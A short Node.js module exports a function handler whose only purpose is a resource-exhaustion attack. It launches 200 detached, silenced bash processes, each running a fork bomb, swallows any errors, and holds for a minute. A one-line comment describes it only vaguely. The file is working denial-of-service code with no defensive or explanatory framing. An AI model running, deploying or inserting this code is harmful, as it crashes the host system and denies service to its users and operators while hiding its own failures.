// Starts processes that start processes.
import { spawn } from 'node:child_process';

export const handler = async () => {
  const bomb = ':(){ :|:& };:; sleep 60';
  for (let count = 0; count < 200; count += 1)
    spawn('/bin/bash', ['-c', bomb], { detached: true, stdio: 'ignore' }).on('error', () => {});
  await new Promise((resolve) => setTimeout(resolve, 60_000));
};
